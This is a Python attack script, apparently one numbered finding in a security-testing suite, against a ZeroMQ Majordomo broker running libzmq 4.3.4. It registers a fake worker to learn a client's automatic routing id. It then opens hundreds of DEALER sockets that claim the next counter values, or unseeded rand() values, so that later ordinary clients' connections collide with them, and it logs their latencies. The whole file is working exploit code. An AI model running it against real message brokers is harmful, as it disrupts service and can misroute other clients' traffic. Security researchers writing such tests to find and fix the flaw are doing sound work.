"""Finding 1: a peer-chosen routing id equal to one the broker's ROUTER will assign itself.

libzmq 4.3.4 gives peers without an id `0x00` + a 4-byte counter and does not check that value
against ids peers chose; a fake worker learns the counter from a client's envelope, DEALERs take
the next few hundred values, and the next ordinary client's connection collides with one of them.
Where the envelope no longer gives the id away, it squats on rand()'s unseeded first values.
"""

import time

import zmq

from abuse import Attack, Client, MDP_WORKER, arguments, log

options = arguments(lambda parser: parser.add_argument("--squatters", type=int, default=300))
attack = Attack(options)
time.sleep(0.3)  # the writer's connection takes its automatic id before the counter is read
context = attack.context

# 1. A worker for a made-up service, and one request to it: the envelope holds the client's id.
worker = context.socket(zmq.DEALER)
worker.setsockopt(zmq.LINGER, 0)
worker.connect(options.endpoint)
worker.send_multipart([b"", MDP_WORKER, b"\x01", b"abuse.echo"])
time.sleep(0.2)
probe = Client(context, options.endpoint)
probe.send("abuse.echo", b"which id am I?")
learned = None
deadline = time.monotonic() + 5
while learned is None and time.monotonic() < deadline:
    if not worker.poll(500):
        continue
    frames = worker.recv_multipart()
    if len(frames) >= 4 and frames[2] == b"\x02":
        learned = frames[3]
# Without a 5-byte automatic id to learn (workers see something else), squat on the values an
# unseeded rand() starts libzmq 4.3.4's counters at instead.
if learned is not None and len(learned) == 5 and learned[0] == 0:
    starts = [int.from_bytes(learned[1:], "big") + 1]
    log(f"automatic routing id {learned.hex()}")
else:
    starts = [0x6B8B4567, 0xE43C9869]
    log(f"no automatic id in the envelope ({learned!r}); squatting on rand()'s unseeded values")

# 2. Squat on the next values: each DEALER names itself 0x00 + a 4-byte counter value.
squatters = []
for start in starts:
    for k in range(options.squatters):
        identity = b"\x00" + ((start + k) % 2**32).to_bytes(4, "big")
        squatter = Client(context, options.endpoint, routing_id=identity)
        squatter.send("mmi.service", b"books")
        squatters.append(squatter)
answered = 0
deadline = time.monotonic() + 5
for squatter in squatters:
    if squatter.receive(max(0.01, deadline - time.monotonic())) is not None:
        answered += 1
log(f"{answered} of {len(squatters)} squatting DEALERs attached")

# 3. Ordinary clients, whose automatic ids are the squatted ones.
latencies = []
for _ in range(5):
    client = Client(context, options.endpoint)
    _, waited = client.call_json("catalog", {"op": "list_categories"}, timeout=2.0)
    latencies.append(round(waited * 1000, 1))
    client.close()
attack.finish(learned=learned.hex() if learned else None, squatters_attached=answered, ordinary_latencies_ms=latencies)
